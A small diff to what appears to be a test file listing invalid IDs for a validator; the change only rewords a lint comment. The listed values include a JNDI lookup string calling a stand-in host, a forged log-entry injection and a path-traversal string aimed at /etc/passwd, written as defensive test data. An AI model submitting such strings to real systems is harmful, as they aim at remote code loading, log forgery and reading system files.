@@ -125,7 +125,7 @@ describe('an invalid id', () => {
     'a'.repeat(65),
     'x","level":"error","message":"forged',
     '12345678 {"at":"now"}',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what some loggers would look up.
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: some loggers would look up such a text.
     '${jndi:ldap://evil.test/a}',
     '12345678, 87654321',
     '../../../etc/passwd',
